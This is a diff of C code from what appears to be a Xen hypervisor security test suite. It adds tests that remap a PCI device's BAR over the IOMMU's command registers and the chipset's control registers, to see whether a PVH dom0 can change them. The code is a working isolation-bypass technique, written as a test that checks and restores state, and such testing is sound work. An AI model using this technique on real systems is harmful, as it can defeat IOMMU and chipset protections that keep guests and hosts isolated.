@@ -84,30 +84,48 @@ KERNEL_ATTACK("K-BAR-ROM", "a device's ROM over the timers")
 }
 
 /*
- * K-BAR-IOMMU: reach the IOMMU's registers by way of a device over them.
- *
- * For a PVH dom0 Xen maps what a device decodes.
+ * What a device decodes Xen maps for a PVH dom0. Change a word of the machine's
+ * with the display's registers, a page of them, over it.
  */
-KERNEL_ATTACK("K-BAR-IOMMU", "the IOMMU's registers as a device's")
+static enum outcome change_under(uint64_t address, const char *what)
 {
-    static const unsigned int commands = 8;
-    const uint64_t registers = iommu_registers();
-    const uint32_t command = config_read(EDU, COMMAND, 2),
-                   before = config_read(EDU, BAR0, 4);
+    static const uint16_t display = PCI_AT(0, 1, 0);
+    static const unsigned int bar = 0x18;
+    const uint32_t command = config_read(display, COMMAND, 2),
+                   before = config_read(display, bar, 4);
     bool changed;
 
-    if ( !registers )
-        return not_applicable("this machine has no IOMMU");
-    config_write(EDU, COMMAND, 2, command & ~MEMORY);
-    config_write(EDU, BAR0, 4, (uint32_t)(registers & ~0xfffffUL));
-    config_write(EDU, COMMAND, 2, command | MEMORY);
-    changed = can_change_machine(registers + commands);
-    config_write(EDU, COMMAND, 2, command & ~MEMORY);
-    config_write(EDU, BAR0, 4, before);
-    config_write(EDU, COMMAND, 2, command);
+    config_write(display, COMMAND, 2, command & ~MEMORY);
+    config_write(display, bar, 4, (uint32_t)(address & PAGE_MASK));
+    config_write(display, COMMAND, 2, command | MEMORY);
+    changed = can_change_machine(address);
+    config_write(display, COMMAND, 2, command & ~MEMORY);
+    config_write(display, bar, 4, before);
+    config_write(display, COMMAND, 2, command);
 
-    return effect_either(changed, "where the IOMMU reads its commands",
-                         "changed and put back", "as it was");
+    return effect(changed, "%s, at %#lx, %s", what, address,
+                  changed ? "changed and put back" : "out of reach");
+}
+
+static const char maps_all[] = "a PV dom0 maps without a device";
+
+/* K-BAR-IOMMU: reach the IOMMU's registers by way of a device over them. */
+KERNEL_PVH_ATTACK("K-BAR-IOMMU", "the IOMMU's registers as a device's",
+                  maps_all)
+{
+    static const unsigned int commands = 8;
+
+    if ( !iommu_registers() )
+        return not_applicable("this machine has no IOMMU");
+    return change_under(iommu_registers() + commands,
+                        "where the IOMMU reads its commands");
+}
+
+/* K-BAR-RCBA: reach the chipset's registers by way of a device over them. */
+KERNEL_PVH_ATTACK("K-BAR-RCBA", "the chipset's registers as a device's",
+                  maps_all)
+{
+    return change_under(CHIPSET_CONTROL, "the chipset's general control");
 }
 
 /* ---- the bridge ---- */
